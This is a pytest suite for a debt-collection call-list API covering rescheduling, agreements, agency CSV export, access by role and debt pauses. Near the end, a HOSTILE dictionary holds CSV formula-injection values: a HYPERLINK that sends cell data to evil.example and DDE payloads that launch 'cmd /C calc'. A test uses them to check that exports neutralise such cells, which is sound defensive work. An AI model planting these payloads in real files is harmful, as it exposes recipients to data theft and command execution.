"""Working the call list through the API: entries, results, negotiation, export, statement."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from models import (
    AuditLog,
    Campaign,
    CampaignEntry,
    CollectionRule,
    CollectionStatus,
    Receivable,
    ResultType,
    ServiceTicket,
    clock,
)
from models.clock import today_in
from models.enums import Channel, EntryState, ReceivableStatus, ResultKind, Role
from negotiation import debt_pauses
from negotiation.accept import accept
from negotiation.offers import offers_for_customer
from quita.settings import Settings
from tests.factories import SEED_OPTIONS, make_condition, make_customer, make_receivable

_PAUSES = Settings(database_url="sqlite://:memory:", secret_key="k" * 40)


@pytest.fixture
async def call_list(db, users):
    """A campaign of six debtors, as a rule run would leave it."""
    today = today_in("America/Sao_Paulo")
    await make_condition(SEED_OPTIONS, is_default=True)
    rule = await CollectionRule.create(description="Teste", active=True)
    campaign = await Campaign.create(rule=rule, description="Teste")
    start = clock.now()
    entries = []
    for n in range(6):
        customer = await make_customer(name=f"Devedor {n}")
        await make_receivable(customer, today - timedelta(days=40 + n), "99.90")
        entries.append(
            await CampaignEntry.create(
                campaign=campaign,
                rule=rule,
                customer=customer,
                position=n + 1,
                total_debt="99.90",
                receivables_count=1,
                oldest_due_date=today - timedelta(days=40 + n),
                call_at=start,
            )
        )
    return {
        "entries": entries,
        "reschedule": await ResultType.create(name="Reagendar", kind=ResultKind.RESCHEDULE),
        "negotiated": await ResultType.create(name="Negociado", kind=ResultKind.NEGOTIATED),
        "nothing": await ResultType.create(name="Sem negociação", kind=ResultKind.NO_NEGOTIATION),
        "receipt": await CollectionStatus.create(name="Acordo", allows_receipt=True),
        "no_receipt": await CollectionStatus.create(name="Em negociação", allows_receipt=False),
    }


async def test_attendant_sees_the_entry_with_record_history_and_offers(api, as_role, call_list):
    entry = call_list["entries"][0]
    answer = await api.get(f"/api/v1/entries/{entry.id}", headers=await as_role(Role.ATTENDANT))
    assert answer.status_code == 200
    body = answer.json()
    assert body["record"]["document"]
    assert [b["amount"] for b in body["bills"]] == ["99.90"]
    assert body["bills"][0]["days_late"] == 40
    assert [o["installments"] for o in body["offers"]] == [1, 3, 4]  # cheapest first
    listed = await api.get("/api/v1/entries", headers=await as_role(Role.ATTENDANT))
    assert len(listed.json()) == 6


async def test_reschedule_moves_the_entry(api, as_role, call_list):
    entry = call_list["entries"][1]
    when = (clock.now() + timedelta(days=2)).replace(microsecond=0)
    body = {
        "result_type_id": call_list["reschedule"].id,
        "reschedule_at": when.isoformat(),
        "collection_status_id": call_list["receipt"].id,
        "notes": "pediu para ligar depois",
    }
    answer = await api.post(
        f"/api/v1/entries/{entry.id}/result", headers=await as_role(Role.ATTENDANT), json=body
    )
    assert answer.status_code == 200, answer.text
    await entry.refresh_from_db()
    assert entry.state == EntryState.SCHEDULED
    assert entry.call_at == when and entry.reschedule_at == when
    assert entry.attempts == 1
    bills = await Receivable.filter(customer_id=entry.customer_id).select_related(
        "collection_status"
    )
    assert all(b.collection_status.allows_receipt for b in bills)
    day = when.astimezone(today_in_tz()).date().isoformat()
    on_day = await api.get(
        f"/api/v1/entries?day={day}&state=scheduled", headers=await as_role(Role.ATTENDANT)
    )
    assert [e["id"] for e in on_day.json()] == [entry.id]


def today_in_tz():
    from zoneinfo import ZoneInfo

    return ZoneInfo("America/Sao_Paulo")


async def test_result_without_a_needed_date_is_422_and_writes_nothing(api, as_role, call_list):
    entry = call_list["entries"][1]
    body = {"result_type_id": call_list["reschedule"].id}
    answer = await api.post(
        f"/api/v1/entries/{entry.id}/result", headers=await as_role(Role.ATTENDANT), json=body
    )
    assert answer.status_code == 422 and "reschedule_at" in answer.json()["detail"]
    await entry.refresh_from_db()
    assert entry.state == EntryState.PENDING and entry.attempts == 0


async def test_no_negotiation_with_a_ticket_and_a_status_without_receipt(api, as_role, call_list):
    entry = call_list["entries"][2]
    body = {
        "result_type_id": call_list["nothing"].id,
        "collection_status_id": call_list["no_receipt"].id,
        "ticket_subject": "Contestação de cobrança",
    }
    answer = await api.post(
        f"/api/v1/entries/{entry.id}/result", headers=await as_role(Role.ATTENDANT), json=body
    )
    assert answer.json()["state"] == "done"
    ticket = await ServiceTicket.get(entry_id=entry.id)
    assert ticket.subject == "Contestação de cobrança"
    detail = await api.get(f"/api/v1/entries/{entry.id}", headers=await as_role(Role.ATTENDANT))
    assert [b["receipt_allowed"] for b in detail.json()["bills"]] == [False]


async def test_negotiate_makes_an_agreement_with_date_and_time(api, as_role, call_list):
    headers = await as_role(Role.ATTENDANT)
    entry = call_list["entries"][3]
    offers = (await api.get(f"/api/v1/entries/{entry.id}", headers=headers)).json()["offers"]
    chosen = offers[1]
    body = {"condition_id": chosen["condition_id"], "option_id": chosen["option_id"]}
    answer = await api.post(f"/api/v1/entries/{entry.id}/agreement", headers=headers, json=body)
    assert answer.status_code == 201, answer.text
    agreement = answer.json()
    assert agreement["total"] == chosen["total"] and agreement["channel"] == "console"
    assert datetime.fromisoformat(agreement["created_at"]).tzinfo is not None
    await entry.refresh_from_db()
    assert entry.state == EntryState.DONE and entry.agreement_id == agreement["id"]
    assert entry.result_type_id == call_list["negotiated"].id
    originals = await Receivable.filter(customer_id=entry.customer_id, agreement_id=None)
    assert {r.status for r in originals} == {ReceivableStatus.NEGOTIATED}
    again = await api.post(f"/api/v1/entries/{entry.id}/agreement", headers=headers, json=body)
    assert again.status_code == 422


async def test_negotiate_an_option_not_offered_is_422(api, as_role, call_list):
    entry = call_list["entries"][3]
    body = {"condition_id": 999, "option_id": 999}
    answer = await api.post(
        f"/api/v1/entries/{entry.id}/agreement", headers=await as_role(Role.ATTENDANT), json=body
    )
    assert answer.status_code == 422 and "option_id" in answer.json()["detail"]


async def test_export_five_entries_then_the_statement_shows_the_agency(
    api, as_role, call_list, agency
):
    supervisor = await as_role(Role.SUPERVISOR)
    ids = [e.id for e in call_list["entries"][:5]]
    answer = await api.post(
        "/api/v1/exports", headers=supervisor, json={"agency_id": agency.id, "entry_ids": ids}
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["entrada", "cliente", "nome"]
    assert [int(r[0]) for r in rows[1:]] == ids
    assert rows[1][7] == "99,90"
    states = await CampaignEntry.filter(id__in=ids).values_list("state", "agency_id")
    assert set(states) == {(EntryState.EXPORTED, agency.id)}
    log = await AuditLog.get(action="export")
    assert log.after["entries"] == ids and log.actor == "supervisor"

    customer_id = call_list["entries"][0].customer_id
    statement = await api.get(f"/api/v1/customers/{customer_id}/statement", headers=supervisor)
    assert [a["agency"] for a in statement.json()["with_agency"]] == [agency.name]

    again = await api.post(
        "/api/v1/exports", headers=supervisor, json={"agency_id": agency.id, "entry_ids": ids}
    )
    assert again.status_code == 422 and "já foram exportadas" in again.json()["detail"]


async def test_the_export_file_is_named_with_the_isp_local_time(api, as_role, call_list, agency):
    # 01/12/2026 22:05 in São Paulo, when UTC already says 02/12 01:05.
    clock.travel(datetime(2026, 12, 2, 1, 5, 7, tzinfo=UTC), tick=False)
    entry = call_list["entries"][0]
    answer = await api.post(
        "/api/v1/exports",
        headers=await as_role(Role.SUPERVISOR),
        json={"agency_id": agency.id, "entry_ids": [entry.id]},
    )
    assert answer.status_code == 200, answer.text
    disposition = answer.headers["content-disposition"]
    assert re.search(rf'filename="ligacoes-{agency.id}-20261201-220507\.csv"', disposition)
    # A due date is a calendar date: it stays as it is, whatever the hour of the export.
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][9] == entry.oldest_due_date.strftime("%d/%m/%Y")


async def test_attendant_may_not_export(api, as_role, call_list, agency):
    body = {"agency_id": agency.id, "entry_ids": [call_list["entries"][0].id]}
    answer = await api.post("/api/v1/exports", headers=await as_role(Role.ATTENDANT), json=body)
    assert answer.status_code == 403


async def test_agency_sees_only_its_exported_entries_and_never_the_record(
    api, as_role, call_list, agency, users
):
    from models import Agency

    other = await Agency.create(name="Outro Escritório")
    mine, theirs, unexported = call_list["entries"][:3]
    await CampaignEntry.filter(id=mine.id).update(state=EntryState.EXPORTED, agency_id=agency.id)
    await CampaignEntry.filter(id=theirs.id).update(state=EntryState.EXPORTED, agency_id=other.id)
    headers = await as_role(Role.AGENCY)

    listed = await api.get("/api/v1/entries", headers=headers)
    assert [e["id"] for e in listed.json()] == [mine.id]
    detail = await api.get(f"/api/v1/entries/{mine.id}", headers=headers)
    assert detail.status_code == 200 and detail.json()["record"] is None
    assert detail.json()["customer"]["name"]
    for hidden in (theirs, unexported):
        assert (await api.get(f"/api/v1/entries/{hidden.id}", headers=headers)).status_code == 404
    record = await api.get(f"/api/v1/customers/{mine.customer_id}", headers=headers)
    assert record.status_code == 403
    statement = await api.get(f"/api/v1/customers/{mine.customer_id}/statement", headers=headers)
    assert statement.status_code == 403
    body = {"agency_id": agency.id, "entry_ids": [mine.id]}
    assert (await api.post("/api/v1/exports", headers=headers, json=body)).status_code == 403


async def test_agency_negotiates_its_entry_on_the_agency_channel(api, as_role, call_list, agency):
    entry = call_list["entries"][4]
    await CampaignEntry.filter(id=entry.id).update(state=EntryState.EXPORTED, agency_id=agency.id)
    headers = await as_role(Role.AGENCY)
    offers = (await api.get(f"/api/v1/entries/{entry.id}", headers=headers)).json()["offers"]
    body = {"condition_id": offers[0]["condition_id"], "option_id": offers[0]["option_id"]}
    answer = await api.post(f"/api/v1/entries/{entry.id}/agreement", headers=headers, json=body)
    assert answer.status_code == 201 and answer.json()["channel"] == "agency"


async def test_taking_an_entry_puts_it_in_progress_once(api, as_role, call_list):
    entry = call_list["entries"][5]
    headers = await as_role(Role.ATTENDANT)
    first = await api.post(f"/api/v1/entries/{entry.id}/start", headers=headers)
    assert first.status_code == 200 and first.json()["state"] == "in_progress"
    second = await api.post(f"/api/v1/entries/{entry.id}/start", headers=headers)
    assert second.status_code == 422
    listed = await api.get("/api/v1/entries?state=in_progress", headers=headers)
    assert [e["id"] for e in listed.json()] == [entry.id]
    body = {"result_type_id": call_list["nothing"].id}
    done = await api.post(f"/api/v1/entries/{entry.id}/result", headers=headers, json=body)
    assert done.json()["state"] == "done"


async def test_the_entry_and_the_calls_api_show_every_call(api, as_role, call_list):
    from models import Call

    entry = call_list["entries"][0]
    start = datetime(2026, 11, 30, 17, tzinfo=UTC)
    await Call.create(
        sid="CA" + "1" * 32,
        direction="outbound",
        status="completed",
        customer_id=entry.customer_id,
        entry=entry,
        to_number="+5519988887777",
        answered_by="human",
        keys=[
            {"step": "person", "input": "1", "at": start.isoformat()},
            {"step": "cpf3", "input": "***", "at": start.isoformat()},
            {"step": "offers", "input": "2", "at": start.isoformat()},
        ],
        outcome="conversation",
        answered_at=start,
        ended_at=start + timedelta(seconds=95),
        duration_seconds=95,
    )
    headers = await as_role(Role.ATTENDANT)
    calls = (await api.get(f"/api/v1/entries/{entry.id}", headers=headers)).json()["calls"]
    assert [
        (c["duration_seconds"], [k["input"] for k in c["keys"]], c["outcome"]) for c in calls
    ] == [(95, ["1", "***", "2"], "conversation")]
    listed = await api.get(f"/api/v1/calls?customer_id={entry.customer_id}", headers=headers)
    assert [c["sid"] for c in listed.json()] == ["CA" + "1" * 32]
    assert (await api.get("/api/v1/calls", headers=await as_role(Role.AGENCY))).status_code == 403


async def test_a_paused_debt_shows_on_the_entry(api, as_role, call_list):
    entry = call_list["entries"][0]
    today = today_in("America/Sao_Paulo")
    pause = await debt_pauses.dispute(entry.customer_id, Channel.TELEGRAM, today, _PAUSES)
    answer = await api.get(f"/api/v1/entries/{entry.id}", headers=await as_role(Role.ATTENDANT))
    shown = answer.json()["pause"]
    assert shown["reason"] == "dispute" and shown["ticket_id"] == pause.ticket_id
    assert shown["ends_on"] == pause.ends_on.isoformat()
    assert "não reconhece a dívida" in shown["detail"]
    other = call_list["entries"][1]
    answer = await api.get(f"/api/v1/entries/{other.id}", headers=await as_role(Role.ATTENDANT))
    assert answer.json()["pause"] is None


async def test_an_attendant_ends_a_pause_through_the_api(api, as_role, call_list):
    entry = call_list["entries"][0]
    today = today_in("America/Sao_Paulo")
    pause = await debt_pauses.dispute(entry.customer_id, Channel.TELEGRAM, today, _PAUSES)
    url = f"/api/v1/entries/{entry.id}/pause/end"
    attendant = await as_role(Role.ATTENDANT)
    empty = await api.post(url, json={"reason": ""}, headers=attendant)
    assert empty.status_code == 422
    refused = await api.post(url, json={"reason": "pago"}, headers=await as_role(Role.AGENCY))
    assert refused.status_code == 403
    answer = await api.post(url, json={"reason": "dívida reconhecida"}, headers=attendant)
    assert answer.status_code == 200, answer.text
    assert answer.json()["pause"] is None and answer.json()["id"] == entry.id
    assert await debt_pauses.paused(entry.customer_id, today) is None
    log = await AuditLog.get(entity="debt_pause", entity_id=str(pause.id))
    assert log.actor == Role.ATTENDANT.value and log.after["end_reason"] == "dívida reconhecida"
    again = await api.post(url, json={"reason": "de novo"}, headers=attendant)
    assert again.status_code == 409 and "não está pausada" in again.json()["detail"]
    missing = await api.post(
        "/api/v1/entries/999999/pause/end", json={"reason": "x"}, headers=attendant
    )
    assert missing.status_code == 404


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Clique")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "external_id": "-2+3+cmd|' /C calc'!A0",
}


async def make_hostile(entries) -> None:
    """The first debtor's record holds formulas, and two phones."""
    from models import Customer, CustomerPhone

    first = entries[0]
    await Customer.filter(id=first.customer_id).update(**HOSTILE)
    await CustomerPhone.create(customer_id=first.customer_id, number="+5519988887777")
    await CustomerPhone.create(customer_id=first.customer_id, number="+551932321234")


def assert_no_live_formula(rows: list[list[str]]) -> None:
    first = rows[1]
    assert first[1] == "'" + HOSTILE["external_id"]
    assert first[2] == "'" + HOSTILE["name"]
    assert first[5] == "'" + HOSTILE["city"]
    # What Quita wrote stays usable: the phones in E.164, the amount in pt-BR.
    assert sorted(first[4].split(" ")) == ["+551932321234", "+5519988887777"]
    assert first[7] == "99,90"


async def test_the_agency_file_writes_hostile_cells_as_text(api, as_role, call_list, agency):
    await make_hostile(call_list["entries"])
    ids = [e.id for e in call_list["entries"][:2]]
    answer = await api.post(
        "/api/v1/exports",
        headers=await as_role(Role.SUPERVISOR),
        json={"agency_id": agency.id, "entry_ids": ids},
    )
    assert answer.status_code == 200, answer.text
    assert_no_live_formula(
        list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    )


async def test_negotiated_result_needs_an_agreement_for_the_debtor(api, as_role, call_list):
    headers = await as_role(Role.ATTENDANT)
    entry = call_list["entries"][4]
    body = {"result_type_id": call_list["negotiated"].id, "notes": "disse que pagou"}
    refused = await api.post(f"/api/v1/entries/{entry.id}/result", headers=headers, json=body)
    assert refused.status_code == 422
    assert "não há acordo feito para este devedor" in refused.json()["detail"]
    await entry.refresh_from_db()
    assert entry.state == EntryState.PENDING and entry.result_type_id is None

    # An agreement made on another channel (the bot) stands behind the result.
    today = today_in("America/Sao_Paulo")
    quote = (await offers_for_customer(entry.customer_id, today))[0].quote
    agreement = await accept(quote, channel=Channel.TELEGRAM, today=today, settings=_PAUSES)
    answer = await api.post(f"/api/v1/entries/{entry.id}/result", headers=headers, json=body)
    assert answer.status_code == 200, answer.text
    await entry.refresh_from_db()
    assert entry.state == EntryState.DONE and entry.agreement_id == agreement.id
